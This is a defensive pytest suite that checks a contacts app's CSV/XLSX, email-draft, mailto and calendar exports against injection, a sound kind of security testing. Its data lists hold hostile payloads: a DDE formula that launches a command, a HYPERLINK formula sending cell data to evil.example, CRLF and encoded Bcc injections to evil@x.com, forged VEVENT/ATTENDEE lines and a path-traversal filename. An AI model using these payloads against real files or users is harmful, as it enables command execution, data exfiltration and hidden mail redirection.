"""CSV and XLSX exports of the contacts: no cell ever becomes a formula, and text round-trips.

Every test reads the file back with the real reader (the csv module, openpyxl with
``data_only=False``) and checks what a spreadsheet program would see.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from infoint import targets as tg
from infoint.exports import (
    FORMULA_PREFIXES,
    XLSX_MAX_CELL,
    contacts_table,
    export_filename,
    neutralise_cell,
    table_csv,
    table_xlsx,
)
from infoint.objectives import Objective, Profile

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+SUM(1,2)",
    "-2+3",
    "-5",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\t",
    "=",
]
LITERAL = [
    'Zoë "the boss" O\'Brien, PhD',
    "José Müller-Łukasz 山田 太郎 🙂",
    "line one\nline two\n\nline four",
    "a,b;c\td",
    '"quoted"',
    "$5M and $10M",
    "<img src=x onerror=alert(1)>",
    "02139",
    "NA",
    " leading and trailing ",
    "   ",
    "",
    "a = b + c - d @ e",  # formula characters inside the text are harmless
    "'already quoted",
]


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel shows accents right
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def quoted_csv(rows: list[list[str]]) -> bytes:
    """What QUOTE_ALL must give: every field in double quotes, quotes doubled, CRLF line ends."""
    lines = [",".join('"' + cell.replace('"', '""') + '"' for cell in row) + "\r\n" for row in rows]
    return "".join(lines).encode("utf-8-sig")


def read_xlsx(data: bytes):
    book = load_workbook(io.BytesIO(data), data_only=False)
    return book.active


def xlsx_values(sheet) -> list[list[str]]:
    return [["" if cell.value is None else cell.value for cell in row] for row in sheet.iter_rows()]


def assert_no_formula(sheet) -> None:
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if cell.value is not None:
                assert isinstance(cell.value, str), cell.coordinate
                assert not cell.value.startswith(FORMULA_PREFIXES), (cell.coordinate, cell.value)


def xlsx_expected(value: str) -> str:
    """What an XLSX cell holds: line breaks as LF, XML-illegal characters removed, then neutralised."""
    text = value.replace("\r\n", "\n").replace("\r", "\n")
    text = re.sub("[\ud800-\udfff\ufffe\uffff]", "", ILLEGAL_CHARACTERS_RE.sub("", text))
    return neutralise_cell(text)


# ------------------------------------------------------------------ neutralise_cell


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_every_prefix_gets_a_quote(prefix):
    assert neutralise_cell(prefix + "1+1") == "'" + prefix + "1+1"
    assert neutralise_cell(prefix) == "'" + prefix


@pytest.mark.parametrize(
    "value, expected",
    [
        (None, ""),
        ("", ""),
        ("Ana", "Ana"),
        (3, "3"),
        (-3, "'-3"),
        ("a=b", "a=b"),
        ("'=1", "'=1"),
        (" =1", " =1"),
        ("$5M", "$5M"),
    ],
)
def test_neutralise_cell_values(value, expected):
    assert neutralise_cell(value) == expected


def test_the_prefixes_are_the_designs():
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r", "\n"}


# ------------------------------------------------------------------ CSV


def test_csv_neutralises_every_prefix_and_quotes_every_field():
    header = ["Name", "=Notes"]
    rows = [[p, "ok"] for p in PAYLOADS]
    data = table_csv(header, rows)
    assert data == quoted_csv([[neutralise_cell(v) for v in r] for r in [header] + rows])
    back = read_csv(data)
    assert back[0] == ["Name", "'=Notes"]
    for payload, row in zip(PAYLOADS, back[1:]):
        assert row == ["'" + payload, "ok"]
        assert not row[0].startswith(FORMULA_PREFIXES)


def test_csv_round_trips_unicode_quotes_commas_and_line_breaks():
    rows = [[text, "x"] for text in LITERAL]
    data = table_csv(["a", "b"], rows)
    assert data.count(b"\r\n") >= len(rows) + 1
    assert read_csv(data) == [["a", "b"]] + rows  # none starts with a formula prefix: unchanged
    assert data == quoted_csv([["a", "b"]] + rows)


def test_csv_of_no_rows_is_just_the_header():
    assert read_csv(table_csv(["Name"], [])) == [["Name"]]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.lists(st.text(max_size=40), min_size=1, max_size=4), max_size=5))
def test_any_text_in_csv_is_quoted_neutralised_and_round_trips(rows):
    width = max((len(r) for r in rows), default=1)
    header = [f"c{i}" for i in range(width)]
    data = table_csv(header, rows)
    expected = [[neutralise_cell(v) for v in r] for r in [header] + rows]
    assert data == quoted_csv(expected)
    back = read_csv(data)
    assert back == expected
    assert not any(cell.startswith(FORMULA_PREFIXES) for row in back for cell in row)


# ------------------------------------------------------------------ XLSX


def test_xlsx_neutralises_every_prefix_and_writes_strings():
    header = ["Name", "=Notes"]
    rows = [[p, "=1+1"] for p in PAYLOADS]
    sheet = read_xlsx(table_xlsx(header, rows))
    assert_no_formula(sheet)
    values = xlsx_values(sheet)
    assert values[0] == ["Name", "'=Notes"]
    for payload, row in zip(PAYLOADS, values[1:]):
        assert row[0] == xlsx_expected(payload) and row[0].startswith("'")
        assert row[1] == "'=1+1"


def test_xlsx_round_trips_unicode_quotes_commas_and_line_breaks():
    rows = [[text, "x"] for text in LITERAL]
    sheet = read_xlsx(table_xlsx(["a", "b"], rows))
    assert_no_formula(sheet)
    assert xlsx_values(sheet)[1:] == rows


def test_xlsx_looks_right():
    header = ["Name", "Notes"]
    sheet = read_xlsx(
        table_xlsx(header, [["Ana Silva", "n" * 500], ["", "two\nlines"]], sheet="My: contacts?")
    )
    assert sheet.title == "My  contacts"
    assert all(cell.font.bold for cell in sheet[1]) and not sheet["A2"].font.bold
    assert (
        8 <= sheet.column_dimensions["A"].width <= 20 and sheet.column_dimensions["B"].width == 60
    )
    assert sheet.freeze_panes == "A2"
    assert sheet["B3"].alignment.wrap_text


def test_xlsx_removes_characters_xml_cannot_hold():
    """Documented loss: control characters (other than tab and line breaks) can't be stored in XLSX."""
    sheet = read_xlsx(
        table_xlsx(["a"], [["Ana\x00 \x07Silva\x1b"], ["\x01=1+1"], ["x\ufffey"], ["a\r\nb\rc"]])
    )
    assert_no_formula(sheet)
    assert [r[0] for r in xlsx_values(sheet)[1:]] == ["Ana Silva", "'=1+1", "xy", "a\nb\nc"]


def test_xlsx_cuts_text_at_excels_cell_limit():
    sheet = read_xlsx(table_xlsx(["a"], [["x" * (XLSX_MAX_CELL + 10)]]))
    assert sheet["A2"].value == "x" * XLSX_MAX_CELL


@settings(max_examples=100, deadline=None)
@given(st.lists(st.lists(st.text(max_size=40), min_size=1, max_size=3), min_size=1, max_size=4))
def test_any_text_in_xlsx_is_never_a_formula_and_round_trips(rows):
    width = max(len(r) for r in rows)
    header = [f"c{i}" for i in range(width)]
    sheet = read_xlsx(table_xlsx(header, rows))
    assert_no_formula(sheet)
    back = xlsx_values(sheet)
    padded = [r + [""] * (width - len(r)) for r in rows]
    # openpyxl drops trailing empty rows and columns it never stored; compare what is there
    expected = [header] + [[xlsx_expected(v) for v in r] for r in padded]
    back = [r + [""] * (width - len(r)) for r in back] + [[""] * width] * (
        len(expected) - len(back)
    )
    assert back == expected


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n\x00\x01 'a1\ufffe"), max_size=8))
def test_formula_characters_and_controls_anywhere_never_make_a_formula(text):
    sheet = read_xlsx(table_xlsx(["a"], [[text]]))
    assert_no_formula(sheet)
    for row in read_csv(table_csv(["a"], [[text]])):
        assert not row[0].startswith(FORMULA_PREFIXES)


# ------------------------------------------------------------------ the contacts table


def people() -> list[tg.Contact]:
    return [
        tg.Contact(
            id=1,
            first_name="Ana",
            last_name="Silva",
            email="ana@example.com",
            organization="=Acme",
            position="Senior UX Researcher",
            target=True,
            notes='Met at a meetup,\n"great"',
            source="linkedin",
            connected_on="2024-05-01",
        ),
        tg.Contact(
            id=2,
            first_name="@Bo",
            last_name="",
            email="",
            organization="Harbourline Hotels",
            position="Front desk agent",
            connection="cold",
            seniority="junior",
            focus="neither",
            notes="-called twice",
            source="form",
        ),
        tg.Contact(id=3, first_name="", last_name="", organization="Nameless Ltd"),
    ]


def test_contacts_table_columns_and_stored_values():
    header, rows = contacts_table(people())
    assert header == [
        "Name",
        "Email",
        "Organization",
        "Position",
        "Connection",
        "Seniority",
        "Focus",
        "Target",
        "Notes",
        "Source",
        "Connected on",
    ]
    assert rows[0] == [
        "Ana Silva",
        "ana@example.com",
        "=Acme",
        "Senior UX Researcher",
        "",
        "",
        "",
        "yes",
        'Met at a meetup,\n"great"',
        "linkedin",
        "2024-05-01",
    ]
    assert rows[1][:1] == ["@Bo"] and rows[1][4:8] == ["cold", "junior", "neither", ""]
    assert (
        rows[2][0] == "" and rows[2][2] == "Nameless Ltd"
    )  # no "(no name)" stand-in in a data file
    assert all(isinstance(v, str) for row in rows for v in row)


def test_contacts_table_uses_the_assessment_when_given():
    ctx = tg.Context.build(Profile(location="Toronto"), Objective(roles=["UX Researcher"]), [])
    contacts = people()
    assessed = tg.classify(contacts, ctx)
    _, rows = contacts_table(contacts, assessed)
    by_name = {a.contact.id: a for a in assessed}
    for contact, row in zip(contacts, rows):
        a = by_name[contact.id]
        assert row[4:7] == [a.connection, a.seniority, a.focus]
    assert rows[0][4:7] == ["first", "senior", "position"]
    assert rows[1][4:7] == ["cold", "junior", "neither"]  # the user's settings win


def test_contacts_table_matches_unsaved_contacts_by_object():
    ctx = tg.Context.build(Profile(), Objective(), [])
    contacts = [
        tg.Contact(first_name="A", position="Director of research"),
        tg.Contact(first_name="B", position="Intern"),
    ]
    _, rows = contacts_table(contacts, tg.classify(contacts, ctx))
    assert [r[5] for r in rows] == ["senior", "junior"]


def test_contacts_table_exported_is_neutralised_in_both_formats():
    header, rows = contacts_table(people())
    csv_rows = read_csv(table_csv(header, rows))
    assert (
        csv_rows[1][2] == "'=Acme"
        and csv_rows[2][0] == "'@Bo"
        and csv_rows[2][8] == "'-called twice"
    )
    assert csv_rows[1][8] == 'Met at a meetup,\n"great"'
    sheet = read_xlsx(table_xlsx(header, rows))
    assert_no_formula(sheet)
    assert xlsx_values(sheet)[1:] == csv_rows[1:]
    assert sheet.title == "Contacts"


# ------------------------------------------------------------------ file names


@pytest.mark.parametrize(
    "kind, ext, expected",
    [
        ("contacts", "csv", "infoint-contacts-2026-03-04.csv"),
        ("contacts", ".xlsx", "infoint-contacts-2026-03-04.xlsx"),
        ("Target list", "CSV", "infoint-target-list-2026-03-04.csv"),
        ("../../etc/passwd", "csv", "infoint-etc-passwd-2026-03-04.csv"),
        ("Zoë's <script>", "x/l\\sx", "infoint-zoe-s-script-2026-03-04.xlsx"),
        ("", "", "infoint-export-2026-03-04.txt"),
    ],
)
def test_export_filename(kind, ext, expected):
    assert export_filename(kind, ext, datetime(2026, 3, 4, 5, 6)) == expected


def test_export_filename_defaults_to_today():
    assert export_filename("contacts", "csv") == f"infoint-contacts-{datetime.now():%Y-%m-%d}.csv"


# ================================================================== Part B: mail and calendar
# Adversarial tests of the mail and calendar exports over ALL their fields at once. Already
# covered in tests/test_exports_mail.py, not repeated here:
#   .eml     test_names_and_subjects_never_add_headers (names and subject, fixed list),
#            test_invalid_addresses_give_an_empty_header (to and sender, fixed list),
#            test_body_keeps_text_and_loses_control_characters,
#            test_any_text_gives_the_same_header_set (hypothesis: names, subject, body),
#            test_any_text_as_address_never_adds_a_recipient (hypothesis: to and sender).
#   mailto:  test_mailto_never_gains_a_recipient (hostile "to" with hostile subject/body),
#            test_mailto_any_text (hypothesis: to, subject, body; at most one recipient).
#   .ics     test_meeting_invite (one fixed hostile summary and location),
#            test_any_text_keeps_one_vevent_per_reminder (hypothesis: seed, summary, description),
#            test_a_literal_backslash_n_stays_inside_its_property.
# Missing and added below: every control character in every .eml field; hypothesis over all
# six .eml fields together with hostile fragments; hostile subject/body with a VALID address in
# mailto: (exactly one recipient, only subject and body); the .ics meeting file (location
# included) and reminders checked line by line after unfolding, with hypothesis over every field.

import email  # noqa: E402
import email.header  # noqa: E402
import email.policy  # noqa: E402
import email.utils  # noqa: E402
from datetime import UTC, timedelta  # noqa: E402
from urllib.parse import parse_qsl, unquote, urlsplit  # noqa: E402
from zoneinfo import ZoneInfo  # noqa: E402

from icalendar import Calendar  # noqa: E402

from infoint.exports import (
    Reminder,
    calendar_uid,
    clean_address,
    clean_header,
    eml_draft,
    ics_event,
    ics_reminders,
    mailto_link,
)  # noqa: E402

EML_HEADERS = [
    "content-transfer-encoding",
    "content-type",
    "date",
    "from",
    "message-id",
    "mime-version",
    "subject",
    "to",
    "x-unsent",
]
CONTROLS = (
    [chr(c) for c in range(0x20)]
    + ["\x7f"]
    + [chr(c) for c in range(0x80, 0xA0)]
    + ["\u2028", "\u2029", "\u202e", "\u2066", "\ufeff"]
)
INJECTIONS = [
    "\r\nBcc: evil@x.com",
    "\nBcc: evil@x.com",
    "\rBcc: evil@x.com",
    "\r\n\r\nfake body",
    "\nX-Injected: 1",
    "\r\n Bcc: evil@x.com",
    "\u2028Bcc: evil@x.com",
    "\x85Bcc: evil@x.com",
    "\x0bCc: evil@x.com",
    "\x0cTo: evil@x.com",
    "=?utf-8?q?=0D=0ABcc:_evil@x.com?=",
    "=?utf-8?b?DQpCY2M6IGV2aWxAeC5jb20=?=",
    ", evil@x.com",
    "; evil@x.com",
    "<evil@x.com>",
    '"evil" <evil@x.com>',
    "?cc=evil@x.com",
    "&bcc=evil@x.com",
    "%0ABcc:evil@x.com",
    "%0D%0A",
    "\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:injected",
    "\nDTSTART:19700101T000000Z",
    "\\nEND:VEVENT",
    "\\NATTENDEE:x",
    "\r\nATTENDEE:mailto:evil@x.com",
    "\r\n ORGANIZER:mailto:evil@x.com",
    ";TZID=evil:",
    ":",
    ";",
    ",",
    "\\",
]
hostile = st.lists(
    st.one_of(st.text(max_size=12), st.sampled_from(INJECTIONS), st.sampled_from(CONTROLS)),
    max_size=6,
).map("".join)
address = st.one_of(
    st.sampled_from(["ana@example.com", "me@example.org", "o'brien@example.ie", "ana@bücher.de"]),
    hostile,
    st.sampled_from(["ana@example.com", "me@example.org"]).flatmap(
        lambda a: st.sampled_from(INJECTIONS).map(lambda i: a + i)
    ),
)


def parse_eml(data: bytes):
    return email.message_from_bytes(data, policy=email.policy.default)


def eml_header_lines(data: bytes) -> list[bytes]:
    head = data.split(b"\n\n", 1)[0] if b"\r\n\r\n" not in data else data.split(b"\r\n\r\n", 1)[0]
    return head.splitlines()


def mailboxes(data: bytes, field: str) -> tuple[list[tuple[str, str]], list[tuple[str, str]]]:
    """(display name, address) pairs of a header as the default-policy parser and as
    ``email.utils.getaddresses`` (the classic parser most tools use) read the raw header."""
    try:
        parsed = [(a.display_name, a.addr_spec) for a in parse_eml(data)[field].addresses]
    except (
        AttributeError,
        IndexError,
        ValueError,
    ) as exc:  # e.g. a group "Bcc: a@x, b@y;" appeared
        parsed = [("<parse error>", f"{type(exc).__name__}: {exc}")]
    raw = email.message_from_bytes(data, policy=email.policy.compat32)[field] or ""
    return parsed, [pair for pair in email.utils.getaddresses([str(raw)]) if any(pair)]


def check_eml(data: bytes, *, sender, sender_name, to, to_name, subject) -> None:
    message = parse_eml(data)
    assert sorted(k.lower() for k in message.keys()) == EML_HEADERS
    assert not message.defects
    names = [
        line.split(b":", 1)[0].lower()
        for line in eml_header_lines(data)
        if line[:1] not in (b" ", b"\t")
    ]
    assert sorted(n.decode() for n in names) == EML_HEADERS  # raw: no extra header line either
    for field, addr, name in (("To", to, to_name), ("From", sender, sender_name)):
        clean = clean_address(addr)
        parsed, classic = mailboxes(data, field)
        assert [a for _, a in parsed] == ([clean] if clean else []), (
            f"{field} header recipients: {parsed}"
        )
        assert [a for _, a in classic] == ([clean] if clean else []), (
            f"{field} header recipients (getaddresses): {classic}"
        )
        if clean:
            # Python's address parser (not the draft) adds a space between two encoded words of a
            # long non-ASCII display name; RFC 2047 mail clients join them. Compare without spaces.
            assert parsed[0][0].replace(" ", "") == clean_header(name, 120).replace(" ", "")
    # A folded Subject can come back with the fold's leading space; mail clients drop it.
    assert str(message["Subject"]).lstrip() == clean_header(subject)
    assert message.get_content_type() == "text/plain" and not message.is_multipart()


@pytest.mark.parametrize("field", ["sender", "sender_name", "to", "to_name", "subject", "body"])
@pytest.mark.parametrize("control", CONTROLS, ids=[f"U+{ord(c):04X}" for c in CONTROLS])
def test_a_control_character_in_any_eml_field_never_adds_a_header(field, control):
    values = dict(
        sender="me@example.org",
        sender_name="Mia Chen",
        to="ana@example.com",
        to_name="Ana Silva",
        subject="A question",
        body="Hello Ana,\n\nThanks.",
    )
    values[field] = (
        values[field] + control + "Bcc: evil@x.com" + control + control + "X-Injected: 1"
    )
    data = eml_draft(**values)
    check_eml(data, **{k: v for k, v in values.items() if k != "body"})
    assert b"evil@x.com" not in b"\n".join(eml_header_lines(data)).lower() or field in (
        "sender_name",
        "to_name",
        "subject",
    )


LONG_NAME_ATTACK = (
    "Ana Silva <ana@example.com>, Bcc: attacker@evil.example, other@evil.example, x@evil.example"
)
FOUND_BY_HYPOTHESIS = (
    "\r\nBcc: evil@x.com\r\nBcc: evil@x.com=?utf-8?q?=0D=0ABcc:_evil@x.com?=0000000000;"
)


@pytest.mark.parametrize(
    "name",
    [
        LONG_NAME_ATTACK,
        FOUND_BY_HYPOTHESIS,
        "Silva, Ana; Senior UX Researcher: Harbourline Hotels, Toronto, met at CHI 2025",
    ],
)
@pytest.mark.parametrize("field", ["to_name", "sender_name"])
def test_a_long_display_name_with_commas_or_colons_never_adds_a_recipient(field, name):
    """A display name too long for one header line is folded by the email package; the quotes
    around it must survive, or its commas, colons and addresses become recipients."""
    values = dict(
        sender="me@example.org",
        sender_name="Mia Chen",
        to="ana@example.com",
        to_name="Ana Silva",
        subject="s",
        body="b",
    )
    values[field] = name
    data = eml_draft(**values)
    check_eml(data, **{k: v for k, v in values.items() if k != "body"})


@pytest.mark.parametrize(
    "subject",
    [
        "Merci pour votre temps et vos conseils sur la recherche UX chez Hôtels Harbourline, à bientôt",
        "Gracias por su tiempo: una pregunta sobre la investigación de usuarios en Hoteles Harbourline, señora Núñez",
    ],
)
def test_a_long_subject_with_accents_keeps_its_spaces(subject):
    """A subject longer than one header line is folded into encoded words; a space between two
    words must survive in every RFC 2047 reader (here: both of Python's parsers)."""
    data = eml_draft(
        sender="me@example.org",
        sender_name="Mia",
        to="ana@example.com",
        to_name="Ana",
        subject=subject,
        body="b",
    )
    assert str(parse_eml(data)["Subject"]).lstrip() == subject
    raw = email.message_from_bytes(data, policy=email.policy.compat32)["Subject"]
    assert str(email.header.make_header(email.header.decode_header(raw))) == subject


@settings(max_examples=400, deadline=None)
@given(
    sender=address, sender_name=hostile, to=address, to_name=hostile, subject=hostile, body=hostile
)
@example(
    sender="ana@example.com",
    sender_name="",
    to="ana@example.com",
    to_name=FOUND_BY_HYPOTHESIS,
    subject="",
    body="",
)
def test_any_text_in_every_eml_field_keeps_the_header_set(
    sender, sender_name, to, to_name, subject, body
):
    data = eml_draft(
        sender=sender, sender_name=sender_name, to=to, to_name=to_name, subject=subject, body=body
    )
    check_eml(data, sender=sender, sender_name=sender_name, to=to, to_name=to_name, subject=subject)
    content = parse_eml(data).get_content()
    assert "\r" not in content.replace("\r\n", "\n")  # the body's line breaks are uniform
    assert not any(ord(ch) < 32 and ch not in "\n\t" for ch in content.replace("\r\n", "\n"))


def split_mailto(url: str) -> tuple[str, list[tuple[str, str]]]:
    parts = urlsplit(url)
    assert parts.scheme == "mailto" and not parts.fragment and not parts.netloc
    return unquote(parts.path), parse_qsl(parts.query, keep_blank_values=True, strict_parsing=True)


MAILTO_TRICKS = [
    ",evil@x.com",
    ";evil@x.com",
    "?cc=evil@x.com",
    "&bcc=evil@x.com",
    "&to=evil@x.com",
    "%0ABcc:evil@x.com",
    "%0D%0Abcc:evil@x.com",
    "\nbcc:evil@x.com",
    "\r\ncc:evil@x.com",
    "#frag",
    "%2C evil@x.com",
    "?",
    "&",
    "=",
    "%",
]


@pytest.mark.parametrize("trick", MAILTO_TRICKS)
def test_mailto_subject_and_body_never_add_a_recipient_or_parameter(trick):
    subject, body = "Coffee" + trick, "Hi" + trick + "\nend" + trick
    url, truncated = mailto_link("ana@example.com", subject, body)
    assert not truncated
    recipient, params = split_mailto(url)
    assert recipient == "ana@example.com"
    assert [k for k, _ in params] == ["subject", "body"]
    assert dict(params) == {
        "subject": clean_header(subject),
        "body": ("Hi" + trick + "\nend" + trick).replace("\r\n", "\n").replace("\n", "\r\n"),
    }


@pytest.mark.parametrize("trick", MAILTO_TRICKS)
def test_mailto_address_with_a_trick_gives_no_recipient(trick):
    url, _ = mailto_link("ana@example.com" + trick, "s", "b")
    recipient, params = split_mailto(url)
    assert recipient == "" and [k for k, _ in params] == ["subject", "body"]


@settings(max_examples=300, deadline=None)
@given(to=address, subject=hostile, body=hostile)
def test_mailto_any_fields_exactly_one_recipient_when_valid(to, subject, body):
    url, _ = mailto_link(to, subject, body)
    recipient, params = split_mailto(url)
    clean = clean_address(to)
    assert recipient == clean
    assert len([r for r in re.split(r"[,;]", recipient) if r]) == (1 if clean else 0)
    assert [k for k, _ in params] == ["subject", "body"]
    assert params[0][1] == clean_header(subject)
    assert not any(ord(ch) < 33 or ord(ch) > 126 for ch in url)


TZ = "America/Toronto"
EVENT_PROPERTIES = {"UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY", "DESCRIPTION", "LOCATION"}
ALARM_PROPERTIES = {"ACTION", "DESCRIPTION", "TRIGGER"}


def ics_lines(data: bytes) -> list[str]:
    """Content lines after unfolding (RFC 5545 3.1), every line checked to end in CRLF."""
    text = data.decode("utf-8")
    assert (
        text.endswith("\r\n")
        and "\r" not in text.replace("\r\n", "")
        and "\n" not in text.replace("\r\n", "")
    )
    return re.sub(r"\r\n[ \t]", "", text).split("\r\n")[:-1]


def ics_structure(data: bytes) -> list[tuple[str, list[str]]]:
    """Each VEVENT and VALARM with its property names, from the raw lines (not icalendar's reader)."""
    stack, found = [], []
    for line in ics_lines(data):
        name = re.match(r"[A-Za-z0-9-]+", line)
        assert name, line
        name = name.group(0).upper()
        if name == "BEGIN":
            stack.append((line.split(":", 1)[1], []))
        elif name == "END":
            component, props = stack.pop()
            assert line.split(":", 1)[1] == component
            found.append((component, props))
        else:
            stack[-1][1].append(name)
    assert stack == []
    return found


def check_ics(data: bytes, events: int, with_location: list[bool]) -> None:
    structure = ics_structure(data)
    vevents = [props for comp, props in structure if comp == "VEVENT"]
    alarms = [props for comp, props in structure if comp == "VALARM"]
    assert [
        comp for comp, _ in structure if comp not in ("STANDARD", "DAYLIGHT", "VTIMEZONE")
    ].count("VCALENDAR") == 1
    assert {comp for comp, _ in structure} <= {
        "VCALENDAR",
        "VEVENT",
        "VALARM",
        "VTIMEZONE",
        "STANDARD",
        "DAYLIGHT",
    }
    assert len(vevents) == events and len(alarms) == events
    for props, located in zip(vevents, with_location):
        assert sorted(props) == sorted(EVENT_PROPERTIES - (set() if located else {"LOCATION"}))
    for props in alarms:
        assert sorted(props) == sorted(ALARM_PROPERTIES)
    assert len(Calendar.from_ical(data).walk("VEVENT")) == events


@settings(max_examples=300, deadline=None)
@given(uid_seed=hostile, summary=hostile, description=hostile, location=hostile)
def test_any_text_in_every_meeting_field_keeps_one_event(uid_seed, summary, description, location):
    start = datetime(2026, 3, 9, 10, 0, tzinfo=ZoneInfo(TZ))
    data = ics_event(
        uid_seed=uid_seed,
        summary=summary,
        description=description,
        start=start,
        minutes=30,
        tz=TZ,
        location=location,
    )
    check_ics(data, 1, [bool(clean_header(location, 500))])
    (event,) = Calendar.from_ical(data).walk("VEVENT")
    assert str(event["UID"]) == calendar_uid(uid_seed)
    assert event["DTSTART"].dt == start and event["DTEND"].dt == start + timedelta(minutes=30)
    assert "ORGANIZER" not in event and "ATTENDEE" not in event


@settings(max_examples=150, deadline=None)
@given(st.lists(st.tuples(hostile, hostile, hostile), min_size=1, max_size=3))
def test_any_text_in_every_reminder_field_keeps_one_event_each(items):
    start = datetime(2026, 11, 1, 1, 30, tzinfo=UTC)
    rems = [
        Reminder(seed, summary, description, start + timedelta(days=i))
        for i, (seed, summary, description) in enumerate(items)
    ]
    data = ics_reminders(rems, TZ)
    check_ics(data, len(rems), [False] * len(rems))


@pytest.mark.parametrize("injection", INJECTIONS)
@pytest.mark.parametrize("field", ["uid_seed", "summary", "description", "location"])
def test_each_injection_in_each_meeting_field(field, injection):
    values = dict(uid_seed="meeting:1", summary="Interview", description="Notes", location="Café")
    values[field] = values[field] + injection + "\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:x"
    data = ics_event(start=datetime(2026, 3, 9, 10, 0), minutes=30, tz=TZ, **values)
    check_ics(data, 1, [True])
